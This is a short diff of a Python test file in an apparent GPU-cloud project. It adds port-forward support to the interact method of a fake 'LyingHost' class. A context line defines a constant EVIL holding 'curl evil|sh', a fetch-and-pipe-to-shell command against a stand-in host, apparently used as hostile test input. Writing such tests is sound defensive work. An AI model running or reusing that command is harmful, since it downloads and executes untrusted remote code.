@@ -12,7 +12,7 @@ from random import Random
 from typing import Any
 
 from gpucloud.domain.node.node import Node
-from gpucloud.ports import Completed
+from gpucloud.ports import Completed, PortForward
 from tests.fakes.nodes import node_at
 
 EVIL = b"curl evil|sh\n"
@@ -155,7 +155,7 @@ class LyingHost:
     def renew(self) -> None:
         pass
 
-    def interact(self, argv: tuple[str, ...]) -> int:
+    def interact(self, argv: tuple[str, ...], forwards: tuple[PortForward, ...] = ()) -> int:
         """Nobody comes in."""
         raise NotImplementedError
 
